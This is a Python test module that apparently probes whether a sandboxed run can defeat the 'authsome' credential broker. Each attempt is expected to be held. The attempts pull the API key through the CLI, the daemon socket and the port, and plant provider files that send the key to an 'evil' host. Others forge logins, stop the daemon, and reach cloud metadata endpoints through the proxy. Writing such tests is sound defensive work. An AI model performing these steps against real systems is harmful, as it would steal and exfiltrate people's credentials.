"""Attempts that ask authsome itself, by every door that it has. A plain run holds all of them (level B)."""

import contextlib
import json
import os
import socket
import subprocess
import urllib.parse

from .trying import AIMS, Blocked, attempt, connect, exchange, proxy, tunnel

KEY = "sk-proj-"  # how the credential begins, and no placeholder does
OWN_KEY = "ghp_" + "0" * 36


def authsome(*arguments: str, stdin: str = "") -> str:
    """What the command line prints, for a caller that denies its run. Raises Blocked where it fails."""
    environment = {**os.environ, "AUTHSOME_HOME": AIMS["home"], "AUTHSOME_PORT": str(AIMS["port"])}
    environment.pop("AUTHSOME_RUN", None)
    argv = [*AIMS["program"], *arguments]
    done = subprocess.run(argv, env=environment, input=stdin, capture_output=True, text=True, check=False, timeout=30)
    if done.returncode:
        raise Blocked(done.stderr.strip()[-200:])
    return done.stdout or "done"


def on_socket(method: str, path: str, body: object = None) -> str:
    """What the daemon answers on its own socket."""
    there = connect(socket.AF_UNIX, socket.SOCK_STREAM, 0, f"{AIMS['home']}/run/daemon.sock")
    return answered(there, method, path, "localhost", body)


def on_port(method: str, path: str, body: object = None) -> str:
    """What the daemon answers where its pages are."""
    place = ("127.0.0.1", AIMS["port"])
    return answered(connect(socket.AF_INET, socket.SOCK_STREAM, 0, place), method, path, f"127.0.0.1:{place[1]}", body)


def answered(there: socket.socket, method: str, path: str, host: str, body: object) -> str:
    """The body of an answer that says yes."""
    text = "" if body is None else json.dumps(body)
    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
    head += f"Content-Type: application/json\r\nContent-Length: {len(text)}\r\n\r\n"
    with there:
        there.sendall((head + text).encode())
        answer = b"".join(iter(lambda: there.recv(4096), b"")).decode(errors="replace")
    if " 20" not in answer[:16]:
        raise Blocked(answer.partition("\r\n")[0])
    return answer.partition("\r\n\r\n")[2]


def provider_file(name: str, *hosts: str) -> str:
    """A provider that takes the variable of openai."""
    key = {"env_var": "OPENAI_API_KEY"}
    text = {"name": name, "display_name": name, "auth_type": "api_key", "flow": "api_key", "api_key": key}
    return json.dumps(text | {"api_url": hosts})


@attempt("the credential in its own environment", held=True)
def _() -> object:
    return any(KEY in value for value in os.environ.values())


@attempt("the credential by the command line: export", held=True)
def _() -> object:
    return authsome("export", "openai")


@attempt("the credential by the command line: get --show-secret", held=True)
def _() -> object:
    return authsome("get", "openai", "--field", "api_key", "--show-secret")


@attempt("the credential by the daemon's socket: export", held=True)
def _() -> object:
    return on_socket("POST", "/exports", {"provider": "openai"})


@attempt("the credential by the daemon's socket: a field", held=True)
def _() -> object:
    return on_socket("GET", "/connections/openai/fields/api_key?show_secret=1")


@attempt("the credential by the port of the pages: export", held=True)
def _() -> object:
    return on_port("POST", "/exports", {"provider": "openai"})


@attempt("the credential by the port of the pages: a field", held=True)
def _() -> object:
    return on_port("GET", "/connections/openai/fields/api_key?show_secret=1")


@attempt("the credential in what a host says back", held=True)
def _() -> object:
    answer = exchange(tunnel(AIMS["lent"], 443), AIMS["lent"], "/reflect", os.environ["OPENAI_API_KEY"])
    if not answer.startswith("HTTP/1.1 200"):
        raise RuntimeError(f"that was no attempt: {answer[:100]}")
    return KEY in answer


@attempt("the credential to another host, by the person's own provider file", held=True)
def _() -> object:
    return moved("openai")


@attempt("the credential to another host, by a provider file that shares its variable", held=True)
def _() -> object:
    return moved("other")


def moved(name: str) -> bool:
    """Whether a provider file in the home brings the credential of openai to a host of ours."""
    path = f"{AIMS['home']}/providers/{name}.json"
    try:
        with open(path, "w") as file:
            file.write(provider_file(name, AIMS["lent"], AIMS["evil"]))
        authsome("list")  # the file is read, if it was not before
        answer = exchange(tunnel(AIMS["evil"], 443), AIMS["evil"], "/echo", os.environ["OPENAI_API_KEY"])
        return answer.startswith("HTTP/1.1 200") and os.environ["OPENAI_API_KEY"] not in answer
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)


@attempt("a provider by the command line", held=True)
def _() -> object:
    return authsome("register", "-", "--yes", stdin=provider_file("acme", AIMS["evil"]))


@attempt("a provider by the daemon's socket", held=True)
def _() -> object:
    return on_socket("POST", "/providers", {"text": provider_file("ajax", AIMS["evil"]), "force": True})


@attempt("the end of a provider of the person's own", held=True)
def _() -> object:
    return authsome("remove", AIMS["own_provider"])


@attempt("a login by the command line", held=True)
def _() -> object:
    return authsome("login", "github", "--stdin", stdin=OWN_KEY)


@attempt("a login by the daemon's socket", held=True)
def _() -> object:
    return on_socket("POST", "/auth/sessions", {"provider": "github", "connection": "second", "key": OWN_KEY})


@attempt("a login by the port of the pages", held=True)
def _() -> object:
    return on_port("POST", "/auth/sessions", {"provider": "github", "connection": "third", "key": OWN_KEY})


@attempt("another connection as the default", held=True)
def _() -> object:
    return authsome("set-default", "openai", "default")


@attempt("the person's yes to a question", held=True)
def _() -> object:
    return authsome("approve", "--json")


@attempt("a run that is lent more", held=True)
def _() -> object:
    return authsome("run", "--", "true")


@attempt("the person's logout", held=True)
def _() -> object:
    return authsome("logout", "openai")


@attempt("the end of the daemon", held=True)
def _() -> object:
    return on_socket("POST", "/daemon/stop", {})


@attempt("authsome's own port through the proxy", held=True)
def _() -> object:
    return b" 403 " not in tunnel("127.0.0.1", AIMS["port"]).recv(64)


@attempt("the same port in clear text", held=True)
def _() -> object:
    return through(f"http://127.0.0.1:{AIMS['port']}/health")


@attempt("the proxy through the proxy", held=True)
def _() -> object:
    _, port = proxy(None)[0]
    return tunnel("localhost", port)


@attempt("the cloud's metadata", held=True)
def _() -> object:
    return b" 403 " not in tunnel("169.254.169.254", 80).recv(64)


@attempt("metadata by a name, in clear text", held=True)
def _() -> object:
    return through("http://metadata.google.internal/computeMetadata/v1/")


def through(url: str) -> bool:
    """Whether the proxy fetches an address."""
    place, token = proxy(None)
    host = urllib.parse.urlsplit(url).netloc
    with socket.create_connection(place, 5) as sock:
        sock.sendall(f"GET {url} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {token}\r\n\r\n".encode())
        answer = sock.recv(4096)
    if b" 403 " in answer[:16]:
        raise Blocked(answer.partition(b"\r\n")[0].decode())
    return bool(answer)
